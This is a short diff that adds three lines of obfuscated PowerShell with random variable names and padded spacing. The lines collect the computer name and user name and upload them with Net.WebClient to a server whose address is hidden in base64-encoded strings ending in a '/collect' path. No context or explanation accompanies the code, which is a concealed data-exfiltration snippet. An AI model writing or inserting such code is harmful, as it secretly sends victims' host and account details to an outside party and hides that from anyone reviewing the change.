@@ -1,0 +1,3 @@
+$PXjLk =      $env:COMPUTERNAME +     '|'     +      $env:USERNAME
+$TghrSsk     = New-Object    Net.WebClient
+$TghrSsk.UploadString((([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwAxADYANgAuADkAOAAuAA==')))+([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('MQA2AC4AOQAvAGMAbwBsAGwAZQBjAHQA')))),   $PXjLk)
